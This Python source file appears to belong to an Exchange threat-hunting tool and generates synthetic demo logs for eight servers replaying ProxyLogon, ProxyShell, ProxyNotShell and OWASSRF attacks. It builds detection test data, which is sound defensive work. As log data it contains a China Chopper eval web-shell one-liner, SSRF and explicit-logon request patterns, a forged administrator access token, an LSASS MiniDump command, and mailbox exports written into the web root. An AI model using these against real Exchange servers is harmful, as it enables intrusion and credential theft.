"""What happened on each demo host besides ordinary use.

ProxyLogon, March 2021 (EXCH01-EXCH05). The EXCH01 chain mirrors the HelseCERT rows
(detections.md §2.1 PL-SSRF-2, PL-27065-*): SSRF via ``/ecp/y.js`` to Autodiscover, MAPI,
``proxyLogon.ecp`` (241) and the ECP DDI service, the ``Set-OabVirtualDirectory`` China Chopper
``ExternalUrl`` and the reset that wrote ``discover.aspx``, then web-shell use. EXCH05 shows its
compromise in event logs only (UM deserialization, a dropped page, an LSASS dump, staging).

ProxyShell, August 2021 (EXCH06, EXCH08): the IIS lines of quoted_log_lines.md §5.2/§5.3
(``/autodiscover/autodiscover.json?@evil.corp/<back end>?...&Email=autodiscover/autodiscover.json%3F@evil.corp``),
``Python PSRP Client`` in Rps_Http, then on EXCH06 the mailbox export to an ``.aspx`` and its use.
ProxyNotShell and OWASSRF, October 2022 (EXCH07): the MSRC-quoted ``@zdi/Powershell`` request
and ``/owa/mastermailbox%40outlook.com/powershell`` (detections.md §2.3). Each scenario returns
the :class:`Quirks` of its host's files.
"""

from __future__ import annotations

import string
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from functools import partial

from exhunt.demo.events import APPLICATION, MANAGEMENT, SECURITY, SYSMON, W3WP, Host, benign_events, w3wp_command
from exhunt.demo.formats import BackEnd, HttpErr
from exhunt.demo.traffic import (
    ADMIN,
    ADMIN_WORKSTATION,
    BROWSERS,
    CHROME,
    DOMAIN,
    FIRST_DAY,
    OUTLOOK,
    USERS,
    Traffic,
    admin_session,
    mailbox_guid,
    rps_probes,
)

PYTHON_REQUESTS = "python-requests/2.25.1"
PYTHON_REQUESTS_2021 = "python-requests/2.26.0"
EWS_CLIENT = "ExchangeServicesClient/0.0.0.0"
NMAP = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
CRAWLER = "DuckDuckBot/1.0; (+http://duckduckgo.com/duckduckbot.html)"
SHELL_KEY = "orange2021"
HUNTED_SHELLS = (
    "errorFS.aspx", "OutlookEN.aspx", "ErrorAA.aspx", "zntwv.aspx", "getpp.aspx", "Err0r.aspx", "shel.aspx",
    "one.aspx", "authhead.aspx", "bob.aspx", "RedirSuiteServerProxy.aspx", "shel2.aspx", "shel90.aspx",
    "log.aspx", "logg.aspx", "fatal-erro.aspx", "OutlookZH.aspx", "8Lw7tAhF9i1pJnRo.aspx", "errorEE.aspx",
    "web.aspx",
)


@dataclass(frozen=True, slots=True)
class Quirks:
    """File-level oddities of a host's logs that readers must survive."""

    #: Start every HttpProxy file with the plain column-name line before the ``#`` block.
    bare_header: bool = False
    #: ``YYMMDD`` of the W3SVC1 file that begins with a UTF-8 BOM.
    iis_bom_day: str | None = None
    #: IIS restarted here: the W3SVC1 file of that day repeats its directives before the next line.
    iis_restart: datetime | None = None


def _at(day: int, hour: int, minute: int, second: int, millis: int = 0, *, month: int = 3,
        year: int = 2021) -> datetime:
    return datetime(year, month, day, hour, minute, second, millis * 1000, tzinfo=UTC)


_aug = partial(_at, month=8)
_oct = partial(_at, month=10, year=2022)
#: First days of the benign weeks around the ProxyShell and ProxyNotShell activity.
AUGUST_2021 = datetime(2021, 8, 9, tzinfo=UTC)
OCTOBER_2022 = datetime(2022, 9, 29, tzinfo=UTC)


def _ssrf(
    t: Traffic, moment: datetime, client: str, stem: str, path: str, status: int, ua: str,
    latency_ms: int | None = None,
) -> None:
    """A CVE-2021-26855 request: ``stem`` on the front end, ``path`` on the back end via ``X-BEResource``.

    Statuses of 500 and above mean the back end was never reached (no W3SVC2 line).
    """
    back_stem, _, back_query = path.partition("?")
    reached = status < 500
    backend = BackEnd(back_stem, back_query, f"{DOMAIN}\\{t.server.name}$", status) if reached else None
    t.add(moment, client, "POST", stem, status, ua=ua, protocol=stem.split("/")[1].capitalize(),
          anchor=f"ServerInfo~a]@{t.server.fqdn}:444{path}#", routing_hint="X-BEResource-Cookie",
          target_server=t.server.fqdn, backend=backend, latency_ms=latency_ms)


def _nmap_check(t: Traffic, moment: datetime) -> None:
    """Microsoft's ``http-vuln-cve2021-26855`` nmap script run by the admin (detections.md PL-SCAN-1)."""
    t.add(moment, ADMIN_WORKSTATION, "GET", "/owa/auth/x.js", 500, ua=NMAP, protocol="Owa",
          anchor="ServerInfo~localhost/ecp/default.flt?", routing_hint="X-AnonResource-Backend-Cookie",
          target_server="localhost")


def _oab_vdir(t: Traffic) -> str:
    return f"{t.server.name}\\OAB (Default Web Site)"


def exch01(t: Traffic) -> Quirks:
    """Compromised: full HAFNIUM chain from 203.0.113.45, OAB web shell written and used."""
    attacker, fqdn, session, canary = "203.0.113.45", t.server.fqdn, t.guid(), t.canary()
    ddi = "/ecp/DDI/DDIService.svc"
    # A MAPI request whose ClientRequestId holds a comma (two header values joined), so it is CSV-quoted.
    mailbox, connection = mailbox_guid("bob"), t.guid()
    t.add(_at(2, 8, 14, 3, 87), "10.0.6.22", "POST", "/mapi/emsmdb/", 200, ua=OUTLOOK, protocol="Mapi",
          auth_type="Negotiate", query=f"MailboxId={mailbox}@contoso.com",
          client_request_id=f"R:{connection}:7;RT:Execute;CI:{connection}:1;CID:{t.guid()},{t.guid()}",
          **t.signed_in("bob", _at(2, 8, 14, 3), f"MailboxGuid~{mailbox}", "MailboxGuidWithDomain"))
    _ssrf(t, _at(3, 6, 41, 10, 532), attacker, "/owa/auth/Current/themes/resources/logon.css",
          "/autodiscover/autodiscover.xml?", 200, CRAWLER)
    # (end time, back-end path, status, latency): latencies cover the ECP rows each request caused.
    chain = (
        (_at(3, 6, 49, 42, 162), "/autodiscover/autodiscover.xml?", 200, 41),
        (_at(3, 6, 49, 43, 699), "/mapi/emsmdb/?", 200, 63),
        (_at(3, 6, 49, 46, 210), "/ecp/proxyLogon.ecp?", 241, 92),
        (_at(3, 6, 49, 51, 543), f"{ddi}/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory", 200, 205),
        (_at(3, 6, 49, 53, 851), f"{ddi}/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory", 200, 118),
        (_at(3, 6, 50, 8, 470), f"{ddi}/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory", 200,
         10251),
    )
    for moment, path, status, latency in chain:
        ua = EWS_CLIENT if "autodiscover" in path else PYTHON_REQUESTS
        _ssrf(t, moment, attacker, "/ecp/y.js", path, status, ua, latency)
    vdir, get_url = t.guid(), f"{ddi}/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory"
    set_url = get_url.replace("GetObject", "SetObject")
    reset_url = set_url.replace("=OAB", "=ResetOAB")
    script = (
        '<script language="JScript" runat="server">function Page_Load(){eval(Request["'
        + SHELL_KEY + '"],"unsafe");}</script>'
    )
    missing = (
        f"Microsoft.Exchange.Data.Directory.ADNoSuchObjectException:Active Directory operation failed on "
        f"DC01.contoso.local. The object 'CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN={t.server.name},"
        "CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,"
        "CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local' does not exist."
        "\\r\\n\\r\\nThe object does not exist.\\r\\n"
    )
    ecp_rows = (
        (_at(3, 6, 49, 51, 389), "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", get_url, ""),
        (_at(3, 6, 49, 53, 772), f"Set-OabVirtualDirectory.ExternalUrl='http://f/{script}'.Identity='{vdir}'",
         set_url, ""),
        (_at(3, 6, 49, 53, 834), f"Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='{vdir}'", set_url, ""),
        (_at(3, 6, 49, 58, 284), f"Get-OABVirtualDirectory.Identity='{vdir}'", reset_url, ""),
        (_at(3, 6, 49, 58, 420), f"Get-ExchangeServer.Identity='{t.server.name}'", reset_url, ""),
        (_at(3, 6, 49, 58, 835), f"Set-OabVirtualDirectory.ExternalUrl=$null.Identity='{vdir}'", reset_url, missing),
        (_at(3, 6, 50, 0, 717), f"Remove-OABVirtualDirectory.Force=$true.Identity='{_oab_vdir(t)}'", reset_url, ""),
        (_at(3, 6, 50, 8, 396),
         f"New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='{t.server.name}'.Role='ClientAccess'"
         f".InternalURL='https://{fqdn}/OAB'.Path='{t.server.exchange_dir}\\FrontEnd\\HttpProxy\\OAB'", reset_url, ""),
        (_at(3, 6, 50, 8, 441), f"Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='{_oab_vdir(t)}'",
         reset_url, ""),
    )
    for moment, cmd, url, exception in ecp_rows:
        t.ecp(moment, session, ADMIN, cmd, url, exception)
    t.evidence.oab.append((_at(3, 6, 50, 11, 904), "Download failed and temporary file "
                           "'\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed."))
    shell_uses = (_at(3, 7, 2, 15), _at(3, 7, 3, 2), _at(3, 7, 4, 40), _at(4, 21, 15, 9), _at(4, 21, 16, 51),
                  _at(6, 22, 41, 30))
    for number, moment in enumerate(shell_uses):
        ua = "antSword/v2.1" if number < 3 else CHROME
        t.add(moment, attacker, "POST", "/aspnet_client/discover.aspx", 200, ua=ua, protocol=None)
    old_chrome = CHROME.replace("88.0.4324.190", "65.0.2345")
    for moment in (_at(5, 3, 6, 27, 696), _at(5, 8, 11, 58, 846)):
        t.add(moment, attacker, "GET", "/owa/auth/RedirSuiteServerProxy.aspx", 200, ua=old_chrome, protocol="Owa")
    return Quirks(bare_header=True, iis_restart=_at(4, 19, 30, 0))


def exch02(t: Traffic) -> Quirks:
    """Probed: SSRF that never got past Autodiscover, the nmap checker, and a web-shell hunt (all 302)."""
    moment = _at(3, 14, 22, 5, 318)
    for ua in (EWS_CLIENT, PYTHON_REQUESTS, PYTHON_REQUESTS):
        _ssrf(t, moment, "198.51.100.7", "/ecp/y.js", "/autodiscover/autodiscover.xml?", 500, ua)
        moment = t.later(moment, 800, 2500)
    _nmap_check(t, _at(4, 10, 15, 31, 204))
    moment = _at(6, 17, 27, 44, 124)
    hunter_ua = CHROME.replace("88.0.4324.190", "88.0.4324.182")
    for name in HUNTED_SHELLS:
        t.add(moment, "198.51.100.23", "GET", f"/owa/auth/{name}", 302, ua=hunter_ua, protocol="Owa")
        moment = t.later(moment, 1500, 5500)
    return Quirks()


def exch03(t: Traffic) -> Quirks:
    """Clean (patched): an admin OAB URL change, OAB temp downloads, Autodiscover v2, the nmap checker."""
    vdir = t.guid()
    admin_session(t, _at(2, 10, 41, 2), (
        ("GetObject", f"Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='{vdir}'"),
        ("SetObject", f"Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'.Identity='{vdir}'"),
    ))
    temp = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp"
    for day in (2, 5, 7):
        moment = _at(day, 2, 11, 40, 512)
        path = f"{temp}\\{t.guid()}\\LZX-{t.guid()}-{t.rng.randint(1, 90)}.lzx"
        t.evidence.oab.append((moment, f"Download failed and temporary file '{path}' needs to be removed."))
    for index, user in enumerate(USERS[:4]):
        t.add(_at(4, 9, 5 + index, 12, 40 * index), f"10.0.6.{21 + index}", "GET",
              f"/autodiscover/autodiscover.json/v1.0/{user}@contoso.com", 200, ua=OUTLOOK,
              protocol="Autodiscover", query="Protocol=AutodiscoverV1", url_host="autodiscover.contoso.com",
              anchor=f"Smtp~{user}@contoso.com", routing_hint="Smtp-UserPrincipalName", proxy=True)
    _nmap_check(t, _at(8, 9, 3, 11, 570))
    t.add(_at(5, 11, 20, 4, 231), "10.0.6.23", "GET", "/owa/auth/RedirSuiteServiceProxy.aspx", 200,
          ua=BROWSERS[2], protocol="Owa", auth_type="FBA")
    return Quirks()


def exch04(t: Traffic) -> Quirks:
    """Exploited: SSRF to EWS from 192.0.2.77 (mailbox read), no web shell."""
    moment = _at(2, 21, 7, 15, 93)
    for _ in range(6):
        _ssrf(t, moment, "192.0.2.77", "/ecp/x.js", "/EWS/Exchange.asmx?", 200, PYTHON_REQUESTS)
        moment += timedelta(seconds=t.rng.randint(100, 120))
    for day in (1, 3, 6):
        moment = _at(day, 11, t.rng.randint(0, 59), t.rng.randint(0, 59))
        t.evidence.httperr.append(HttpErr(moment, f"192.0.2.{201 + day}", t.rng.randint(49152, 65535),
                                          t.server.ip, "Timer_ConnectionIdle"))
    return Quirks(iis_bom_day="210301")


def exch05(t: Traffic) -> Quirks:
    """Compromised, seen only in event logs: UM deserialization, a dropped page, an LSASS dump, export, staging."""
    host = Host(t)
    benign_events(host, FIRST_DAY, (APPLICATION, SYSMON, MANAGEMENT, SECURITY))
    exchange = t.server.exchange_dir
    um_worker = host.start(_at(1, 0, 12, 41, 305), host.um, f"{exchange}\\Bin\\UMWorkerProcess.exe",
                           f'"{exchange}\\Bin\\UMWorkerProcess.exe" -pipe:2396 -voicedir:"{exchange}\\UnifiedMessaging'
                           '\\voicemail" -tempdir:"C:\\Windows\\TEMP" -perfenabled:True -startTime:0',
                           user="NT AUTHORITY\\NETWORK SERVICE", directory=f"{exchange}\\Bin\\")
    owa = host.start(_at(2, 23, 58, 12, 77), host.was, W3WP, w3wp_command("MSExchangeOWAAppPool"))
    host.application(_at(3, 5, 31, 7, 120), "MSExchange Unified Messaging", 1040,
                     "System.InvalidCastException: Unable to cast object of type 'System.Windows.Data."
                     "ObjectDataProvider' to type 'Microsoft.Exchange.UM.UMCommon.UMSubscriber'.\r\n   at "
                     "Microsoft.Exchange.UM.UMCore.CallContext.Deserialize(Byte[] data)", error=True)
    cmd = host.start(_at(3, 5, 31, 8, 904), um_worker, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami",
                     user="NT AUTHORITY\\NETWORK SERVICE", directory=f"{exchange}\\Bin\\")
    host.start(_at(3, 5, 31, 9, 12), cmd, "C:\\Windows\\System32\\whoami.exe", "whoami",
               user="NT AUTHORITY\\NETWORK SERVICE", directory=f"{exchange}\\Bin\\")
    host.create_file(_at(3, 5, 33, 40, 515), owa, f"{exchange}\\FrontEnd\\HttpProxy\\owa\\auth\\errorEE.aspx")
    dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 648 C:\\Windows\\Temp\\lsass.dmp full"
    rundll = host.start(_at(3, 5, 52, 1, 233), owa, "C:\\Windows\\System32\\rundll32.exe", dump,
                        directory=f"{exchange}\\FrontEnd\\HttpProxy\\owa\\auth\\")
    host.create_file(_at(3, 5, 52, 3, 870), rundll, "C:\\Windows\\Temp\\lsass.dmp")
    host.cmdlet(_at(3, 6, 10, 15, 402), "New-MailboxExportRequest",
                '-Mailbox "bob" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\bob.aspx"')
    replication = host.start(_at(1, 0, 3, 51, 20), host.services, f"{exchange}\\Bin\\MSExchangeMailboxReplication.exe",
                             f'"{exchange}\\Bin\\MSExchangeMailboxReplication.exe"', directory=f"{exchange}\\Bin\\")
    host.create_file(_at(3, 6, 10, 48, 661), replication, "C:\\inetpub\\wwwroot\\aspnet_client\\bob.aspx")
    archive = '"C:\\Program Files\\7-Zip\\7z.exe" a -t7z -r C:\\ProgramData\\it.zip C:\\ProgramData\\pst'
    shell = host.start(_at(4, 2, 15, 33, 18), owa, "C:\\Windows\\System32\\cmd.exe", f"cmd.exe /c {archive}",
                       directory=f"{exchange}\\FrontEnd\\HttpProxy\\owa\\auth\\")
    host.start(_at(4, 2, 15, 33, 96), shell, "C:\\Program Files\\7-Zip\\7z.exe", archive,
               directory=f"{exchange}\\FrontEnd\\HttpProxy\\owa\\auth\\")
    return Quirks()


PSRP = "Python PSRP Client"
PS_DOMAIN = "evil.corp"
#: The ``X-Rps-CAT`` value of ProxyShell requests as logged: a serialized CommonAccessToken that names
#: ``CONTOSO\\administrator`` (RID 500) with group S-1-5-32-544, like the APTSimulator line (§5.3).
RPS_CAT = ("VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBVDT05UT1NPXGFkbWluaXN0cmF0b3JVLFMtMS01LTIxLTEwMDQzMzYzNDgtMTE3NzIzOD"
           "kxNS02ODIwMDMzMzAtNTAwRwEAAAAHAAAADFMtMS01LTMyLTU0NEUAAAAA")
PS_ATTACKER = "203.0.113.61"


def _explicit_logon(t: Traffic, moment: datetime, client: str, back_stem: str, back_query: str, ua: str,
                    email: str, method: str = "POST", **fields: object) -> None:
    """An Autodiscover explicit-logon request ``/autodiscover/autodiscover.json?@<domain><back_stem>?<query>&Email=...``
    (CVE-2021-34473 / CVE-2022-41040) that the front end proxied to ``back_stem`` on the back end (port 444).

    The HttpProxy ``AnchorMailbox`` (``Smtp~`` and the explicit-logon address) is an assumption: no real
    HttpProxy row of ProxyShell was found (detections.md §5).
    """
    domain = email.rpartition("@")[2]
    query = f"@{domain}{back_stem}?{back_query}&Email={email}"
    back_query = "&".join(part for part in (back_query, f"Email={email}") if part)
    address = email.replace("%3F", "?").replace("%3f", "?")
    backend = BackEnd(back_stem.rstrip("/"), back_query, f"{DOMAIN}\\{t.server.name}$", 200)
    t.add(moment, client, method, "/autodiscover/autodiscover.json", 200, ua=ua, protocol="Autodiscover",
          query=query, anchor=f"Smtp~{address}", target_server=t.server.fqdn, backend=backend, **fields)


def _proxyshell(t: Traffic, *, export: bool) -> None:
    """The ProxyShell chain of 2021-08-12 from :data:`PS_ATTACKER`; with ``export`` the mailbox export to an
    ``.aspx`` (CVE-2021-31207) appears in the MSExchange Management log and the page is used afterwards."""
    email = f"autodiscover/autodiscover.json%3F@{PS_DOMAIN}"
    moment = _aug(12, 3, 14, 5, 311)
    _explicit_logon(t, moment, PS_ATTACKER, "/autodiscover/autodiscover.xml", "=", PYTHON_REQUESTS_2021, email)
    _explicit_logon(t, t.later(moment, 900, 2000), PS_ATTACKER, "/mapi/nspi/", "", PYTHON_REQUESTS_2021, email)
    host = Host(t) if export else None
    if host is not None:
        benign_events(host, AUGUST_2021, (MANAGEMENT,))
    shell_name = "".join(t.rng.choices(string.ascii_lowercase, k=16)) + ".aspx"
    # Two PSRP sessions: role assignment and export, then the clean-up a few minutes later.
    cmdlets = (
        (("New-ManagementRoleAssignment", '-Role "Mailbox Import Export" -User "administrator"'),
         ("New-MailboxExportRequest", '-Mailbox "alice@contoso.com" -IncludeFolders ("#Drafts#") -ContentFilter '
          f'"(Subject -eq \'{shell_name[:-5]}\')" -ExcludeDumpster "True" -FilePath "\\\\127.0.0.1\\C$\\inetpub\\'
          f'wwwroot\\aspnet_client\\{shell_name}"')),
        (("Remove-MailboxExportRequest", '-Identity "alice@contoso.com\\MailboxExport" -Confirm "False"'),),
    )
    for start, session in zip((_aug(12, 3, 14, 12, 540), _aug(12, 3, 20, 41, 76)), cmdlets, strict=True):
        moment = start
        for request in range(2 + 2 * len(session)):
            _explicit_logon(t, moment, PS_ATTACKER, "/powershell/", f"X-Rps-CAT={RPS_CAT}", PSRP, email)
            t.rps(moment, PS_ATTACKER, "administrator@contoso.com", PSRP, 200, f"X-Rps-CAT={RPS_CAT}&Email={email}")
            if host is not None and request % 2 and request // 2 < len(session):
                host.cmdlet(t.later(moment, 100, 600), *session[request // 2], client="Remote-PowerShell-Unknown",
                            pool_pid=7316)
            moment = t.later(moment, 700, 4000)
    if not export:
        return
    uses = (_aug(12, 3, 22, 9, 18), _aug(12, 3, 22, 31, 770), _aug(12, 3, 25, 2, 455), _aug(13, 22, 10, 47, 3),
            _aug(15, 1, 40, 12, 631))
    for number, moment in enumerate(uses):
        t.add(moment, PS_ATTACKER, "GET" if number == 0 else "POST", f"/aspnet_client/{shell_name}", 200,
              ua=PYTHON_REQUESTS_2021, protocol=None)


def exch06(t: Traffic) -> Quirks:
    """Compromised: ProxyShell on 2021-08-12, mailbox exported to a PST-wrapped .aspx, then used."""
    rps_probes(t, AUGUST_2021)
    _proxyshell(t, export=True)
    return Quirks()


def exch07(t: Traffic) -> Quirks:
    """Exploited: ProxyNotShell (@zdi/Powershell) on 2022-10-03 and OWASSRF on 10-05, no web shell."""
    rps_probes(t, OCTOBER_2022)
    attacker, user = "203.0.113.99", "heidi"
    hops = f"{attacker} {t.server.ip}"
    email = "autodiscover/autodiscover.json%3f@zdi"
    rps_query = (f"serializationLevel=Full;ExchClientVer={t.server.build};clientApplication=ManagementShell;"
                 "TargetServer=;PSVersion=5.1.17763.592")
    signed = {"auth_type": "NTLM", "user": f"{DOMAIN}\\{user}"}
    moment = _oct(3, 11, 7, 22, 845)
    for request in range(6):
        _explicit_logon(t, moment, attacker, "/Powershell", rps_query, PSRP, email,
                        method="GET" if request == 0 else "POST", **signed)
        t.rps(moment, hops, f"{user}@contoso.com", PSRP, 200, f"{rps_query}&Email={email}",
              method="GET" if request == 0 else "POST")
        moment = t.later(moment, 600, 3500)
    poc_ua = CHROME.replace("88.0.4324.190", "105.0.5195.54")
    moment = _oct(5, 14, 26, 3, 118)
    owa = {"auth_type": "FBA", **t.signed_in(user, moment, f"Smtp~{user}@contoso.com", "Smtp-UserPrincipalName")}
    del owa["proxy"]
    for _ in range(5):
        t.add(moment, attacker, "POST", "/owa/mastermailbox%40outlook.com/powershell", 200, ua=poc_ua, protocol="Owa",
              target_server=t.server.fqdn, backend=BackEnd("/powershell", "", owa["user"], 200), **owa)
        t.rps(moment, hops, f"{user}@contoso.com", poc_ua, 200)
        moment = t.later(moment, 500, 3000)
    return Quirks()


def exch08(t: Traffic) -> Quirks:
    """Probed: the EXCH06 ProxyShell requests against CU20 May21SU, which had the fixes; no export."""
    rps_probes(t, AUGUST_2021)
    _proxyshell(t, export=False)
    return Quirks()


SCENARIOS: dict[str, Callable[[Traffic], Quirks]] = {
    "EXCH01": exch01, "EXCH02": exch02, "EXCH03": exch03, "EXCH04": exch04,
    "EXCH05": exch05, "EXCH06": exch06, "EXCH07": exch07, "EXCH08": exch08,
}
